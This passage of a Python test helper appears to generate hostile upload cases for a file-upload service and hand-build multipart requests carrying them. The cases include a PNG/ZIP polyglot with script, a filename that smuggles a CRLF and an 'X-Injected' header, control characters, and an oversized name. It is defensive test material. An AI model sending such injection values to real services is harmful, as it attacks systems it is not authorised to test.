        b"scan-\xff\xfe\xc3(.png",
        lambda: png_zip_polyglot("alert(2)\n"),
        Refused(400, "bad_request", "could not be read"),
    ),
    HostileCase(
        "control_chars_name",
        "letter\x00\x1b[31m\r\nX-Injected: 1.pdf",
        lambda: letter()[:950],
        Q("malformed_file"),
    ),
    HostileCase(
        "very_long_name", "a" * 5000 + ".pdf", lambda: b"%PDF-1.5\n%%EOF\n", Q("malformed_file")
    ),
)


def as_received(filename: str) -> str:
    """The filename as a browser sends it (and the server reads it): quote and line
    breaks percent-encoded, as the HTML standard has form submissions do."""
    return filename.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


def multipart_body(
    fields: dict[str, str], filename: str | bytes, data: bytes, *, extra_header: bytes = b""
) -> tuple[bytes, str]:
    """A multipart/form-data body written by hand, so the filename's bytes and the part
    headers are exactly as given (a client library would clean them)."""
    boundary = b"hostile-boundary-7d3c1f"
    raw_name = filename if isinstance(filename, bytes) else as_received(filename).encode()
    raw_name = raw_name.replace(b"\\", b"\\\\")  # a quoted-string escapes backslashes
    out = bytearray()
    for name, value in fields.items():
        out += b"--" + boundary + b"\r\n"
        out += b'Content-Disposition: form-data; name="%s"\r\n\r\n' % name.encode()
        out += value.encode() + b"\r\n"
    out += b"--" + boundary + b"\r\n"
    out += b'Content-Disposition: form-data; name="file"; filename="' + raw_name + b'"\r\n'
    out += extra_header
    out += b"Content-Type: application/octet-stream\r\n\r\n" + data + b"\r\n"
    out += b"--" + boundary + b"--\r\n"
    return bytes(out), f"multipart/form-data; boundary={boundary.decode()}"


class HostileCorpus:
    """The corpus's files, generated on first use and kept in `root`."""

    def __init__(self, root: Path) -> None:
        self.root = root
        root.mkdir(parents=True, exist_ok=True)
        self.cases = {case.name: case for case in HOSTILE_CASES}

    def read(self, name: str) -> bytes:
        target = self.root / name
        if not target.exists():
            target.write_bytes(self.cases[name].make())
        return target.read_bytes()
